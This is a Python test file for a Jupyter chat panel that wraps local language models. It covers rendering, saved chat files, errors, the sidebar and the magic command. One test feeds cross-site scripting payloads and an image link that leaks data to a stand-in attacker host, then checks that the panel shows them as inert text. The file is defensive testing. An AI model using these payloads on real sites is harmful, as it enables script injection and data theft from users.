"""The chat panel's safety, persistence, errors, sidebar and magic, on the scripted fake backend."""

from __future__ import annotations

import functools
import importlib
import json
import threading
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import ipywidgets as w
import pytest
from IPython.core.error import UsageError
from ipywidgets.widgets.widget import _instances
from traitlets import TraitError

import gpt4all_magic
from gpt4all_magic.conversation import sidebar as sidebar_module
from gpt4all_magic.conversation.panel import SEND_MARK, ChatPanel, chat, default_panel
from gpt4all_magic.conversation.session import ChatSession
from gpt4all_magic.conversation.sidebar import Sidebar, cell_inserter, current_sidebar, npm_range
from gpt4all_magic.errors import EmptyPromptError, InvalidOptionError, ModelNotFoundError
from gpt4all_magic.options import GenerationOptions

ROOT = Path(__file__).resolve().parents[2]
chat_module = importlib.import_module("gpt4all_magic.conversation.panel")


@pytest.fixture(autouse=True)
def fresh_widgets():
    """No kernel-level panel, sidebar or cell inserter left over from another test."""
    yield
    for holder in (chat_module._DEFAULT, sidebar_module._CURRENT, sidebar_module._INSERTER):
        for widget in list(holder.values()):
            if isinstance(widget, ChatPanel):
                widget.stop()
                widget.wait(30)
            widget.close()
        holder.clear()


@pytest.fixture
def panels(panels, fake_manager):
    """conftest's panel factory, on the fake backend unless a test says otherwise."""
    return functools.partial(panels, manager=fake_manager)


def send(panel: ChatPanel, text: str) -> None:
    panel.input.value = text
    panel.send_button.click()
    panel.wait(30)


class TagCollector(HTMLParser):
    """Every start tag with its attributes, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def parse(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = TagCollector()
    collector.feed(html)
    return collector.tags


def assert_inert(html: str) -> None:
    for tag, attrs in parse(html):
        assert tag not in ("script", "img", "iframe", "object", "embed", "svg", "style"), (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            if name in ("href", "src"):
                assert not (value or "").strip().lower().startswith(("javascript:", "vbscript:", "data:")), html


HOSTILE = ["<script>alert('pwned')</script>\n\n", "<img src=x onerror=alert(1)>\n\n",
           "[click me](javascript:alert(1)) and [ok](https://example.com)\n\n",
           "<a href=\"javascript:alert(2)\">raw link</a>\n\n", "```html\n<script>alert(3)</script>\n```\n",
           "![leak](https://evil.example/log?d=secret) ![inline](data:image/png;base64,AAAA)\n\n"]


def test_hostile_model_output_and_attachments_are_shown_as_text(panels, fake_manager):
    fake_manager.backend.enqueue(HOSTILE)
    panel = panels(namespace={"evil": "<img src=y onerror=alert(4)><script>alert(5)</script>"})
    send(panel, "<iframe src=javascript:alert(6)></iframe> look at @evil")
    user, answer = panel.turns
    assert answer.text == "".join(HOSTILE)
    for html in (user.html.value, answer.html.value, panel.status.value):
        assert_inert(html)
    shown = answer.html.value
    assert "&lt;script&gt;alert(" in shown and "onerror=alert(1)" in shown  # visible, as text
    assert 'href="https://example.com"' in shown  # ordinary links still work
    # an image would fetch its URL (with whatever the answer put in it) as soon as it is shown: a link instead
    assert '<a href="https://evil.example/log?d=secret">image: leak</a>' in shown and "[image: inline]" in shown
    assert "&lt;iframe" in user.html.value and "&lt;img src=y onerror=alert(4)&gt;" in user.html.value


def test_the_conversation_survives_in_its_file(panels, fake_manager, tmp_path):
    path = tmp_path / "chats" / "chat.json"
    panel = panels(file=path, system_prompt="Be brief.", namespace={"x": 42})
    send(panel, "first question")
    send(panel, "second about @x")
    assert panel.exchanges == 2
    data = json.loads(path.read_text())
    assert data["format"] == "gpt4all-magic-chat" and data["system_prompt"] == "Be brief."
    assert [t["text"] for t in data["turns"] if t["role"] == "user"] == ["first question", "second about @x"]
    assert ChatSession.load(path).messages == panel.session.messages  # the library reads it too
    panel.close()
    # a new kernel: a new panel on the same file shows and continues the conversation
    again = panels(file=path, namespace={})
    assert [t.text for t in again.turns if t.role == "user"] == ["first question", "second about @x"]
    assert again.turns[2].attachments[0].name == "x" and "42" in again.turns[2].html.value
    assert again.system_prompt.value == "Be brief." and "Restored 2 exchange(s)" in again.status.value
    send(again, "third")
    seen = fake_manager.backend.calls[-1]
    assert seen[0] == {"role": "system", "content": "Be brief."}
    earlier = [m["content"] for m in seen if m["role"] == "user"][:2]
    assert earlier == ["first question", panel.session.messages[2]["content"]]  # with x's attachment
    assert "`x` (int):\n```\n42\n```" in earlier[1]
    md = again.export("md", tmp_path / "out.md")
    assert "### You\n\nfirst question" in md.read_text() and "third" in md.read_text()
    exported = json.loads(again.export("json", tmp_path / "out.json").read_text())
    assert len(exported["messages"]) == 6
    again.new_button.click()
    assert again.turns == [] and json.loads(path.read_text())["messages"] == []


def test_settings_given_when_reopening_a_chat_file_win_over_the_saved_ones(panels, fake_manager, tmp_path):
    path = tmp_path / "chat.json"
    first = panels(file=path, system_prompt="Old", options=GenerationOptions(max_tokens=64, temp=0.3))
    send(first, "hello")
    first.close()
    again = panels(file=path, system_prompt="NEW", options=GenerationOptions(temp=0.2))
    assert again.system_prompt.value == "NEW" and again.controls.widgets["temp"].value == 0.2
    assert [t.text for t in again.turns if t.role == "user"] == ["hello"]  # the conversation is the file's
    send(again, "more")
    assert fake_manager.backend.calls[-1][0] == {"role": "system", "content": "NEW"}
    assert again.turns[-1].result.options["temp"] == 0.2 and again.exchanges == 2
    again.close()
    # option keywords change only themselves: the rest are the file's saved settings
    third = panels(file=path, max_tokens=32)
    assert third.system_prompt.value == "NEW" and third.controls.widgets["temp"].value == 0.2
    assert third.controls.widgets["max_tokens"].value == 32 and third.exchanges == 2
    third.close()
    reopened = chat(file=path, temp=0.4)  # what `gpt4all_magic.chat()` gives wins too
    assert reopened.controls.widgets["temp"].value == 0.4 and reopened.system_prompt.value == "NEW"
    assert reopened.controls.widgets["max_tokens"].value == 200 and reopened.exchanges == 2
    with pytest.raises(InvalidOptionError):  # only generation options as keywords, not the panel's arguments
        chat(file=tmp_path / "other.json", new=True, height="300px")


def test_bad_chat_files_give_one_line_errors(panels, tmp_path):
    broken = tmp_path / "broken.json"
    broken.write_text("{not json")
    with pytest.raises(InvalidOptionError) as info:
        panels(file=broken)
    assert "broken.json" in str(info.value) and "\n" not in str(info.value)
    odd = tmp_path / "odd.json"  # hand-edited: turns that do not match are ignored, messages kept
    odd.write_text(json.dumps({"messages": [{"role": "user", "content": "hi"}, {"role": "assistant",
                                                                              "content": "hello"}],
                               "turns": [{"nonsense": True}], "options": {"temp": 0.1}}))
    panel = panels(file=odd)
    assert [t.text for t in panel.turns] == ["hi", "hello"] and panel.controls.widgets["temp"].value == 0.1


def test_bad_input_is_refused_in_one_line_and_nothing_is_lost(panels, fake_manager):
    panel = panels()
    panel.input.value = "   "
    panel.send_button.click()
    assert panel.turns == [] and "Type a message first" in panel.status.value
    panel.controls.widgets["seed"].value = "abc"
    panel.input.value = "keep me"
    panel.send_button.click()
    assert panel.turns == [] and panel.input.value == "keep me"
    assert "seed must be a whole number" in panel.status.value and "<br" not in panel.status.value
    panel.controls.widgets["seed"].value = "7"
    fake_manager.backend.delay = 0.05
    panel.input.value = "slow answer please"
    panel.send_button.click()
    panel.input.value = "too soon" + SEND_MARK  # Enter while it is still answering
    assert panel.input.value == "too soon" and "Still answering" in panel.status.value
    panel.wait(30)
    fake_manager.backend.delay = 0.0
    assert panel.turns[-1].result.seed == 7
    with pytest.raises(ModelNotFoundError) as info:
        panel.select_model("no-such-model")
    assert "\n" not in str(info.value)
    with pytest.raises(EmptyPromptError):  # from code, what the status line says is raised
        panel.ask("  ")
    panel.controls.widgets["seed"].value = "x"
    with pytest.raises(InvalidOptionError):
        panel.ask("hi")


def test_a_failed_answer_gives_the_message_back(panels, fake_manager):
    fake_manager.backend.n_ctx = 8  # every prompt overflows this tiny context window
    panel = panels()
    send(panel, "a question far too long for the window")
    answer = panel.turns[-1]
    assert answer.state == "error" and "context window" in answer.error
    assert "jp-error-color1" in panel.status.value
    assert panel.input.value == "a question far too long for the window"
    assert panel.exchanges == 0  # nothing half-recorded


def test_stop_while_the_model_loads_ends_the_turn_before_it_starts(panels, fake_manager, tmp_path, monkeypatch):
    backend = fake_manager.backend
    loading, release = threading.Event(), threading.Event()
    real_load = backend.load

    def slow_load(*args: Any, **kwargs: Any) -> Any:
        loading.set()
        assert release.wait(30)
        return real_load(*args, **kwargs)

    monkeypatch.setattr(backend, "load", slow_load)
    path = tmp_path / "chat.json"
    panel = panels(file=path)
    panel.input.value = "hello while loading"
    panel.send_button.click()
    assert loading.wait(30) and fake_manager.current is None
    panel.stop_button.click()
    release.set()
    panel.wait(30)
    assert [t.role for t in panel.turns] == ["user", "assistant"]
    answer = panel.turns[-1]
    assert answer.state == "stopped" and answer.text == "" and answer.result is None
    assert backend.calls == [] and panel.exchanges == 0  # nothing was generated or recorded
    assert fake_manager.current is not None and len(backend.loads) == 1  # the model stays loaded
    status = panel.status.value
    assert "Stopped before the answer started" in status and fake_manager.current.name in status
    assert "jp-error-color1" not in status and panel.stop_button.disabled
    assert 'data-state="stopped"' in answer.html.value
    assert panel.input.value == "hello while loading"  # given back, so Send asks again
    send(panel, "and now")
    assert panel.turns[-1].state == "done" and panel.exchanges == 1 and len(backend.loads) == 1
    saved = json.loads(path.read_text())
    assert [t["text"] for t in saved["turns"]] == ["and now", "Echo: and now"]
    assert ChatSession.load(path).messages == panel.session.messages


def test_attachment_sizes_a_server_cannot_count_are_shown_as_estimates(panels, fake_manager):
    from openai_fakes import FakeOpenAIServer

    from gpt4all_magic.api import connect, disconnect

    panel = panels(namespace={"data": list(range(300))})
    send(panel, "What is in @data?")  # the fake backend counts with its own tokenizer
    item = panel.turns[0].attachments[0]
    assert item.exact and f"· {item.tokens} tokens" in panel.turns[0].html.value
    with FakeOpenAIServer() as server:  # no tokenize endpoint: counts are estimated
        connect(server.url, api_key_env=None, manager=fake_manager)
        try:
            send(panel, "And in @data now?")
        finally:
            disconnect(manager=fake_manager)
    user, answer = panel.turns[-2:]
    assert answer.state == "done", answer.error
    item = user.attachments[0]
    assert not item.exact and item.tokens > 1
    assert f"≈{item.tokens} tokens" in user.html.value
    assert "≈" not in panel.turns[0].html.value  # the first one was counted exactly


def test_code_blocks_can_be_inserted_where_the_front_end_allows(panels, fake_manager):
    fake_manager.backend.enqueue(["Here:\n\n```python\nprint('hi')\n```\n\nand\n\n```\nx = 1\n```\n"])
    panel = panels()
    send(panel, "code please")
    answer = panel.turns[-1]
    assert panel.code_blocks() == ["print('hi')", "x = 1"]
    buttons = answer.actions.children
    assert [b.description for b in buttons] == ["Insert block 1", "Insert block 2"]
    assert answer.actions.layout.display == "none"  # no front end that can insert cells yet
    inserter = cell_inserter()
    sent: list[dict[str, Any]] = []
    inserter.send = lambda content, buffers=None: sent.append(content)
    buttons[0].click()
    assert sent == [] and "cannot insert cells" in panel.status.value
    inserter.set_state({"ready": True})  # what the lab extension's model reports
    assert answer.actions.layout.display is None
    buttons[0].click()
    assert sent == [{"method": "insert_cell", "code": "print('hi')"}]
    inserter._handle_custom_msg({"event": "inserted", "path": "analysis.ipynb"}, [])
    assert "analysis.ipynb" in panel.status.value


def test_sidebar_holds_one_panel_per_kernel_and_follows_its_child(panels):
    panel = panels()
    first = panel.open_sidebar()
    state = first.get_state()
    assert state["child"] == f"IPY_MODEL_{panel.model_id}" and state["area"] == "right"
    assert state["_model_module"] == "gpt4all-magic" and state["_view_name"] is None  # model only
    assert "gpt4all-in-sidebar" in panel._dom_classes
    second = panels().open_sidebar(area="left")  # re-running the opening cell: the first one goes
    assert first.comm is None and current_sidebar() is second and second.area == "left"
    assert "gpt4all-in-sidebar" not in panel._dom_classes
    second_id = second.model_id
    second.child.close()  # the child closes: so does its sidebar
    assert second.comm is None and current_sidebar() is None
    # so the kernel's widget-state reply (what a page reload asks for) still serializes every widget
    states = {key: widget.get_state() for key, widget in list(_instances.items())}
    assert second_id not in states and panel.model_id in states
    panel.open_sidebar()
    with pytest.raises(TraitError):
        Sidebar(child=panel, area="top")
    assert current_sidebar().child is panel  # a bad call leaves the open one alone
    panel.close_button.click()
    assert current_sidebar() is None and "gpt4all-in-sidebar" not in panel._dom_classes


def test_closed_child_serializes_as_none():
    box = w.VBox()
    holder = Sidebar(child=box)
    box.unobserve(holder._child_comm_changed, names="comm")  # as if the close went unnoticed
    box.close()
    assert holder.get_state()["child"] is None
    holder.close()


def test_chat_returns_the_kernels_panel_and_applies_options(fake_manager):
    panel = chat(temp=0.2, system_prompt="Short answers.")
    assert default_panel() is panel and chat() is panel
    assert panel.controls.widgets["temp"].value == 0.2 and panel.system_prompt.value == "Short answers."
    chat(max_tokens=50)
    assert panel.controls.widgets["max_tokens"].value == 50 and panel.controls.widgets["temp"].value == 0.2
    assert chat(model="smollm2-135m-instruct") is panel
    panel.wait(30)
    assert fake_manager.current.name == "smollm2-135m-instruct" == panel.model_select.value
    assert "Loaded smollm2-135m-instruct" in panel.status.value
    assert chat(new=True) is not panel
    assert gpt4all_magic.chat() is panel  # the package's chat() is the panel module's function
    with pytest.raises(InvalidOptionError):
        chat(area="top")
    with pytest.raises(InvalidOptionError) as info:
        chat(temperature=0.3)
    assert "Did you mean 'temp'" in str(info.value)


def test_magic_opens_the_panel_inline_or_in_the_sidebar(fake_shell, tmp_path):
    run = lambda line: fake_shell.run_cell(line, store_history=True)  # noqa: E731
    first = run("%gpt4all chat -t 0.3 -n 64")
    assert first.success and isinstance(first.result, ChatPanel)
    panel = first.result
    assert panel.controls.widgets["temp"].value == 0.3 and panel.controls.widgets["max_tokens"].value == 64
    assert run("%gpt4all chat").result is panel  # the same chat, its settings kept
    assert panel.controls.widgets["temp"].value == 0.3
    assert run("%gpt4all chat --sidebar").result is panel
    assert current_sidebar().child is panel
    assert run("%gpt4all chat --close").success and current_sidebar() is None
    assert run("%gpt4all chat --new").result is not panel
    bad = run("%gpt4all chat --temp 9")
    assert isinstance(bad.error_in_exec, UsageError) and "temp" in str(bad.error_in_exec)
    assert "\n" not in str(bad.error_in_exec)
    (tmp_path / "bad.json").write_text("[")
    bad_file = run(f"%gpt4all chat --file {tmp_path / 'bad.json'}")
    assert isinstance(bad_file.error_in_exec, UsageError) and "bad.json" in str(bad_file.error_in_exec)


def test_magic_reopening_a_chat_file_applies_only_the_flags_given(fake_shell, tmp_path):
    run = lambda line: fake_shell.run_cell(line, store_history=True)
    path = tmp_path / "chat.json"
    first = run(f"%gpt4all chat --file {path} --system Old -t 0.3 -n 64").result
    send(first, "hello")
    first.close()  # as after a kernel restart: no panel open
    again = run(f"%gpt4all chat --file {path}").result
    assert again is not first and again.exchanges == 1
    assert again.system_prompt.value == "Old" and again.controls.widgets["temp"].value == 0.3
    assert again.controls.widgets["max_tokens"].value == 64  # no flags: the file's settings survive
    again.close()
    changed = run(f"%gpt4all chat --file {path} --system NEW -t 0.2").result
    assert changed.system_prompt.value == "NEW" and changed.controls.widgets["temp"].value == 0.2
    assert changed.controls.widgets["max_tokens"].value == 64 and changed.exchanges == 1
    fresh = run(f"%gpt4all chat --file {tmp_path / 'new.json'} -t 0.25").result  # no file yet: defaults
    assert fresh.controls.widgets["temp"].value == 0.25 and fresh.controls.widgets["max_tokens"].value == 200


def test_one_version_for_python_and_javascript():
    from importlib.metadata import version

    from packaging.version import Version

    package = json.loads((ROOT / "labextension" / "package.json").read_text())
    assert package["name"] == sidebar_module.NPM_NAME
    assert Version(package["version"]) == Version(version("gpt4all-magic"))
    major, minor = package["version"].split(".")[:2]
    assert npm_range() == f"^{major}.{minor}.0"
    assert gpt4all_magic._jupyter_labextension_paths() == [{"src": "labextension", "dest": "gpt4all-magic"}]


def test_controls_are_generated_from_the_options_definition(panels, fake_manager):
    from gpt4all_magic.options import option_specs

    panel = panels()
    for spec in option_specs():
        control = panel.system_prompt if spec.name == "system_prompt" else panel.controls.widgets[spec.name]
        assert control.tooltip == spec.help
        if isinstance(control, w.FloatSlider):
            assert control.max == spec.maximum and control.step == spec.step
    chosen = {"max_tokens": 7, "temp": 0.35, "top_k": 12, "top_p": 0.9, "min_p": 0.05, "repeat_penalty": 1.3,
              "repeat_last_n": 32, "seed": "99", "stop": ["END"]}
    for name, value in chosen.items():
        panel.controls.widgets[name].value = value
    panel.system_prompt.value = "Be terse."
    send(panel, "hello there")
    used = panel.turns[-1].result.options
    assert used == {**{k: v for k, v in chosen.items() if k not in ("seed",)}, "seed": 99,
                    "system_prompt": "Be terse."}
